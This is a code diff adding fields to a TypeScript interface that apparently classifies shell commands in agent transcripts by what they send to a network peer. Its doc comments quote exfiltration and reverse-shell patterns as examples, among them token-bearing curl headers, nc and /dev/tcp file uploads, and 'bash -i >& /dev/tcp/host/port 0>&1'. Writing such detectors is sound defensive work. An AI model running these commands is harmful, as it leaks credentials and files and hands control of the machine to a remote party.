@@ -313,6 +313,25 @@ export interface NetworkSend {
    */
   readonly stdinFrom: readonly number[];
   /**
+   * Run-time variables in the request's credentials: header and authentication options (`-H
+   * "Authorization: Bearer $GITHUB_TOKEN"`, `-u "ci:$TOKEN"`, `--oauth2-bearer`, httpie
+   * `Header:value` items and `-a`). A token there authenticates the request: it goes to the peer.
+   */
+  readonly credentials?: readonly string[];
+  /**
+   * Local files whose content goes to the peer: `curl -T f`, `-F x=@f`, `-d @f`, `wget
+   * --post-file f`, httpie `field@f` and `@f`, `scp f host:`, `rsync f host:`, `nc host port < f`,
+   * `cat f | nc host port`, `cat f > /dev/tcp/host/port`. Absent when none is.
+   */
+  readonly files?: readonly ShellWord[];
+  /** The request method when the command names it (`curl -X DELETE`, `http DELETE URL`), uppercased. */
+  readonly method?: string;
+  /**
+   * A shell on this machine is tied to the socket: its input or output is the peer (`bash -i >&
+   * /dev/tcp/host/port 0>&1`, `bash < /dev/tcp/host/port`), so the peer runs commands here.
+   */
+  readonly shell?: boolean;
+  /**
    * True for a command whose output is shown in the transcript rather than sent to a network peer
    * (`echo $TOKEN`, `gh auth token`, `printenv | grep -i token`): the model reads it. `env` then
    * holds the run-time variables it prints, `environment` says it prints the environment picked
